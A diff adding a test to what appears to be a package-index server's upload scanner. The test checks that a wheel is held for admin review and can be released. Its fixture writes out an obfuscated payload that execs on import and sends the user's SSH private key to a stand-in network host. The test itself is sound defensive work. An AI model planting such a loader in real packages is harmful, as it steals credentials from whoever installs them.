@@ -9,6 +9,7 @@ its rules.
 
 from __future__ import annotations
 
+import base64
 import re
 from collections.abc import Iterator
 from pathlib import Path
@@ -492,3 +493,39 @@ def test_a_case_whose_project_was_deleted_can_still_be_closed(bastion: Bastion, 
     dismissed = decide(client, case_id, "dismiss", note="the owner deleted it")
     assert_page(dismissed)
     assert case_state(bastion, case_id) == ("dismissed", "root", "the owner deleted it")
+
+
+def test_the_scanner_holds_a_malicious_upload_for_review(bastion_with: Any, tmp_path: Path) -> None:
+    """With the real scanner (rejecting nothing outright, so that the upload is held rather than
+    refused): a wheel whose ``__init__`` decodes and executes a payload that sends the user's SSH
+    key to a network sink is held; the admin sees the finding and releases it."""
+    bastion, client = bastion_with(scan="on", scan_reject_score=10.5)
+    token = make_user(bastion, "mallory")
+    make_user(bastion, "root", admin=True)
+    payload = base64.b64encode(
+        b"import os, urllib.request\n"
+        b"urllib.request.urlopen('http://203.0.113.9/c', data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
+    ).decode()
+    directory = tmp_path / "evil"
+    directory.mkdir()
+    wheel = make_wheel(directory, "wicked-widgets", "1.0", metadata=metadata_text("wicked-widgets", "1.0"),
+                       files={"wicked_widgets/__init__.py": f"import base64\nexec(base64.b64decode('{payload}'))\n".encode()})
+    response = post_upload(client, token, wheel, upload_form(wheel, "wicked-widgets", "1.0"))
+    assert response.status_code == 200, response.text
+    with bastion.db.read() as session:
+        case = session.execute(select(ReviewCase)).scalar_one()
+        assert (case.source, case.kind, case.hidden, case.filename) == ("scan", "file", True, wheel.name)
+        case_id = case.id
+    path = file_path(bastion, "wicked-widgets")
+    assert wheel.name not in client.get("/simple/wicked-widgets/").text
+    assert client.get(f"/{path}").status_code == 404
+
+    sign_in(client, "root")
+    queue = client.get("/admin/review/")
+    assert wheel.name in queue.text and "upload scan" in queue.text
+    page = client.get(f"/admin/review/{case_id}")
+    findings = page.text.split('id="findings"', 1)[1].split("</table>", 1)[0]
+    assert "wicked_widgets/__init__.py:2" in findings and "exec(base64.b64decode(" in findings
+    assert_page(decide(client, case_id, "release", note="checked by hand"))
+    assert wheel.name in client.get("/simple/wicked-widgets/").text
+    assert client.get(f"/{path}").content == wheel.read_bytes()
